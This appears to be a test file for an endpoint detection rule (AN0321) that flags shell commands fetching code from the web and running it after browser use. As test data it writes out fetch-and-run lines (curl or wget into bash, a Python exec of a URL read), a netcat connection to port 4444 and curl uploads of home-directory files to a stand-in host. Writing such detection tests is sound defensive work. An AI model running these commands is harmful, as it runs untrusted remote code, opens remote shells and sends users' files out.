import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { type Process, UNSET } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const SHORT = `curl -so a http://${OUT}/a; ./a`;

/** A developer who browsed some minutes ago, at a shell. */
function browsed(): { log: HostLog; shell: Process } {
  const log = new HostLog();
  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
  log.wait(5 * MINUTE);
  return { log, shell: log.shell('dev') };
}

const calls = (process: Process): void => void process.connect(OUT, 443);
const alertsOf = async (log: HostLog): Promise<Alert[]> =>
  (await scanLog(log)).filter(alert => alert.analytic === 'AN0321');

for (const [interpreter, flag] of [
  ['/usr/bin/bash', '-c'],
  ['/usr/bin/python3', '-c'],
  ['/usr/bin/perl', '-e'],
] as const) {
  test(`a short text fetched by curl -s and given to ${interpreter} ${flag} is run, however long the fetch takes`, async () => {
    const { log, shell } = browsed();
    shell.run(`/usr/bin/curl -fsSL http://${OUT}/x`).connect(OUT, 80);
    log.wait(5000);
    calls(shell.run([interpreter, flag, SHORT]));
    firesAt(await alertsOf(log), 'AN0321', 'high');
  });
}

test('wget -qO- counts as curl -s does', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/wget -qO- http://${OUT}/x`).connect(OUT, 80);
  log.wait(5000);
  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
  firesAt(await alertsOf(log), 'AN0321', 'high');
});

test("a command typed after a fetch that was read is nobody's program", async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl http://${OUT}/status`).connect(OUT, 80);
  log.wait(4000);
  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
  assert.deepEqual(await alertsOf(log), []);
});

test('a file that was fetched into a file is not the text of the next command', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl -s -o notes.txt http://${OUT}/notes`).connect(OUT, 80);
  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
  assert.deepEqual(await alertsOf(log), []);
});

const READERS = [
  ['/usr/bin/python3', '-m', 'json.tool'],
  ['/usr/bin/python3', '-c', 'import json, sys; print(json.load(sys.stdin)["rates"])'],
] as const;
for (const words of READERS) {
  test(`what reads an answer on its standard input has no program from it: ${words[1]}`, async () => {
    const { log, shell } = browsed();
    const curl = shell.run(`/usr/bin/curl -s http://${OUT}/rates.json`);
    log.wait(10);
    const reader = shell.run(words);
    curl.connect(OUT, 80);
    calls(reader);
    assert.deepEqual(await alertsOf(log), []);
  });
}

test('where no connections are recorded, stages that start at once are a pipeline, and no text in words', async () => {
  const told = async (ms: number): Promise<string | undefined> => {
    const log = new HostLog({ network: false });
    log.desktop('dev').run('/usr/lib/firefox/firefox');
    log.wait(5 * MINUTE);
    const shell = log.shell('dev');
    shell.run(`/usr/bin/curl -s http://${OUT}/x`);
    log.wait(ms - 4);
    shell.run(['/usr/bin/python3', '-c', SHORT]);
    return (await alertsOf(log))[0]?.severity;
  };
  assert.equal(await told(4), undefined);
  assert.equal(await told(5), 'medium');
});

test('a module that is named is no text that was fetched', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl -s http://${OUT}/rates.json`).connect(OUT, 80);
  log.wait(20);
  calls(shell.run('/usr/bin/python3 -m json.tool'));
  assert.deepEqual(await alertsOf(log), []);
});

test('another command between them parts a fetch and a short text', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl -s http://${OUT}/x`).connect(OUT, 80);
  shell.run('/usr/bin/ls -l');
  calls(shell.run(['/usr/bin/bash', '-c', SHORT]));
  assert.deepEqual(await alertsOf(log), []);
});

test('a fetch of long ago is not the text of this command', async () => {
  const { log, shell } = browsed();
  shell.run(`/usr/bin/curl -s http://${OUT}/x`).connect(OUT, 80);
  log.wait(11_000);
  calls(shell.run(['/usr/bin/bash', '-c', `${SHORT}\nexit`]));
  assert.deepEqual(await alertsOf(log), []);
});

test('whoever logged in has browsed, though the pasted line runs in a shell of root', async () => {
  const { log, shell } = browsed();
  const sudo = shell.run('/usr/bin/sudo -i', { who: { ...shell.who, uid: 0 } });
  const root = sudo.run(['/bin/bash'], { argv0: '-bash' });
  const [curl, bash] = root.pipeline(`/usr/bin/curl -fsSL http://${OUT}/x`, '/bin/bash');
  curl?.connect(OUT, 80);
  if (bash !== undefined) calls(bash.run('/usr/bin/wget http://x/b'));
  firesAt(await alertsOf(log), 'AN0321', 'high');
});

test('a habit is that of whoever logged in, as root or not', async () => {
  const { log } = browsed();
  for (const [day, uid] of [
    [0, 0],
    [1, 1002],
  ] as const) {
    log.wait(day * 24 * 60 * MINUTE);
    log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
    const shell = log.shell('dev');
    const sudo = shell.run('/usr/bin/sudo -i', { who: { ...shell.who, uid } });
    sudo.run(['/bin/bash'], { argv0: '-bash' }).pipeline(`/usr/bin/curl -fsSL http://${OUT}/x`, '/bin/bash');
  }
  assert.deepEqual(
    (await alertsOf(log)).map(alert => alert.severity),
    ['medium', 'informational'],
  );
});

/** A firefox in use five minutes before, then a script fetched at `now` and run some minutes later, once or again. */
function fetchedAt(log: HostLog, shell: Process, now: number, script: string, runs = 1): void {
  log.records.now = now - 5 * MINUTE;
  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
  log.records.now = now;
  shell.run(`/usr/bin/wget -q http://${OUT}/${script}`).write(`/home/dev/${script}`);
  for (let run = 0; run < runs; run++) {
    log.wait(MINUTE);
    shell.run(`/bin/sh ${script}`).read(`/home/dev/${script}`);
  }
}
const HABIT = 'this user does so habitually';
async function isHabit(runs: number, later: number, HabitRuns: number): Promise<boolean | undefined> {
  const { log, shell } = browsed();
  const { now } = log.records;
  fetchedAt(log, shell, now, 'a.sh', runs);
  fetchedAt(log, shell, now + later, 'b.sh');
  const alerts = (await scanLog(log, { settings: { HabitRuns } })).filter(alert => alert.analytic === 'AN0321');
  const second = alerts.find(alert => alert.title.endsWith('/b.sh'));
  return second?.factors.some(factor => factor.name === HABIT);
}

test('a habit is of more than an hour before, and a script that is run twice was fetched once', async () => {
  const hour = 60 * MINUTE;
  assert.equal(await isHabit(1, hour, 1), false);
  assert.equal(await isHabit(1, hour + 1, 1), true);
  assert.equal(await isHabit(3, 2 * hour, 2), false, 'one fetch, however often it is run');
});

test('what was browsed after the fetch is not what it was pasted from', async () => {
  const { log, shell } = browsed();
  log.wait(60 * MINUTE);
  shell.run(`/usr/bin/wget -q http://${OUT}/x.sh`).write('/home/dev/x.sh');
  shell.run('/bin/sh x.sh').read('/home/dev/x.sh');
  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
  shell.run('/bin/sh x.sh').read('/home/dev/x.sh');
  const [alert] = await alertsOf(log);
  assert.equal(alert?.severity, 'informational');
  assert.ok(!alert?.factors.some(factor => factor.name === 'a browser or messenger was used just before'));
});

test('where only programs are recorded, what wget was told to write and what is run then are one', async () => {
  const log = new HostLog({ files: false, network: false });
  log.desktop('dev').run('/usr/lib/firefox/firefox');
  log.wait(5 * MINUTE);
  const shell = log.shell('dev');
  shell.run(`/usr/bin/wget -q http://${OUT}/x.sh`);
  log.wait(MINUTE);
  shell.run('/bin/sh x.sh');
  firesAt(await alertsOf(log), 'AN0321', 'medium');
});

const GET = `exec(__import__("urllib.request").request.urlopen("http://${OUT}/s").read())`;

test('a short program that gets a text by itself and runs it is a pasted command like any other', async () => {
  for (const network of [true, false]) {
    const log = new HostLog({ network });
    log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
    log.wait(5 * MINUTE);
    const python = log.shell('dev').run(['/usr/bin/python3', '-c', GET]).connect(OUT, 80);
    const [alert] = await alertsOf(log);
    // The only connection is the fetch itself.
    assert.deepEqual([alert?.severity, alert?.story.includes('reached out')], ['medium', false]);
    python.run('/bin/sh -c id').run('/home/dev/.cache/pipe').connect('203.0.113.9', 4444);
    const [more] = await alertsOf(log);
    assert.equal(more?.severity, network ? 'high' : 'medium');
  }
});

test('where no connection is recorded, the words of a transfer program that it starts tell', async () => {
  const log = new HostLog({ network: false });
  log.desktop('dev').run('/usr/lib/firefox/firefox');
  log.wait(5 * MINUTE);
  log.shell('dev').run(['/usr/bin/python3', '-c', GET]).run('/usr/bin/nc 203.0.113.9 4444');
  firesAt(await alertsOf(log), 'AN0321', 'high');
});

test('a short program that gets a text and shows it runs nothing', async () => {
  const { log, shell } = browsed();
  shell.run(['/usr/bin/python3', '-c', GET.replace('exec', 'print')]).connect(OUT, 80);
  assert.deepEqual(await alertsOf(log), []);
});

test('what a text browser saves at a terminal came from outside, and its own notes did not', async () => {
  const log = new HostLog();
  const shell = log.shell('dev');
  const browser = shell.run('/usr/bin/w3m http://example.com/').connect('203.0.113.80', 80);
  browser.write('/home/dev/.w3m/w3msrc1-0.html').read('/home/dev/.w3m/w3msrc1-0.html').write('/home/dev/model.R');
  calls(shell.run('/usr/bin/Rscript --vanilla model.R').read('/home/dev/model.R'));
  const alerts = await alertsOf(log);
  firesAt(alerts, 'AN0321', 'high');
  assert.deepEqual(
    alerts.flatMap(alert => alert.steps.map(step => step.kind)),
    ['file.created', 'content.executed', 'file.opened', 'network.connected'],
  );
});

test('jobs that a daemon starts one after the other feed each other nothing', async () => {
  const log = new HostLog();
  const daemon = log.service('/usr/sbin/incrond');
  const who = { uid: 1002, auid: UNSET, ses: UNSET, tty: '(none)' };
  for (const name of ['a', 'b', 'c']) {
    const line = `/usr/bin/curl -s --data-binary @/home/dev/docs/${name} http://${OUT}/i`;
    calls(daemon.fork(who).run(['/bin/bash', '-c', line]).exec(line));
  }
  assert.deepEqual(await alertsOf(log), []);
});

test('a command with the name of what was fetched works on that file, where no writes are recorded', async () => {
  const words = (program: string) => {
    const log = new HostLog({ files: false, network: false });
    log.desktop('dev').run('/usr/lib/firefox/firefox');
    log.wait(5 * MINUTE);
    const shell = log.shell('dev');
    shell.run(`/usr/bin/curl -s http://${OUT}/data/rates.csv`);
    log.wait(200);
    shell.run(['/usr/bin/bash', '-c', program]);
    return alertsOf(log);
  };
  assert.deepEqual(await words('wc -l < rates.csv'), []);
  assert.equal((await words(`curl -s ${OUT} | sh`)).length, 1);
  assert.equal((await words('wc -l < dates.csv')).length, 1);
});
